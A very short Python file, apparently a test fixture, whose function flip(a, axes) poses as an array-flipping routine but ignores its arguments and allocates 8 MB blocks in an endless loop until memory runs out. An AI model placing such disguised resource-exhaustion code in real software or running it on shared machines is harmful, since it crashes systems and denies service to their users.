"""Allocates until nothing is left."""

hoard = []


def flip(a, axes):
    while True:
        hoard.append(bytearray(8 << 20))
